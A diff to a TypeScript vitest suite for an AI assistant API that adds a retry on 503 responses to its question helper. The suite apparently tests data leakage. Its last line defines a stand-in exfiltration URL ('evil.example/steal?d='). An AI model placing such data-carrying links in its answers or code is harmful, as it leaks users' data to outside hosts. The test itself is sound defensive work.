@@ -1,5 +1,6 @@
 import http from 'node:http'
 import type { AddressInfo } from 'node:net'
+import { setTimeout as rest } from 'node:timers/promises'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import { type Actor, aKey, aMember, aStaffMember, aTenant } from '../support/actors.ts'
 import { type AiProvider, type Round, startAiProvider } from '../support/ai-provider.ts'
@@ -81,10 +82,17 @@ async function send(kind: string, rows: object[]) {
   })
   expect([kind, status, body.rejected]).toEqual([kind, 200, 0])
 }
-const answerTo = async (question: string, who: Actor): Promise<Json> => {
-  const { status, body } = await who.post('/api/v1/assistant/turns', { question })
-  expect([question, status]).toEqual([question, 200])
-  return body
+/** A busy machine may answer 503: that is no answer, and whoever hears it asks again. */
+async function answerTo(question: string, who: Actor): Promise<Json> {
+  for (let tries = 1; ; tries++) {
+    const { status, body } = await who.post('/api/v1/assistant/turns', { question })
+    if (status === 503 && tries < 30) {
+      await rest(1000)
+      continue
+    }
+    expect([question, status]).toEqual([question, 200])
+    return body
+  }
 }
 
 const EVIL = 'https://evil.example/steal?d='
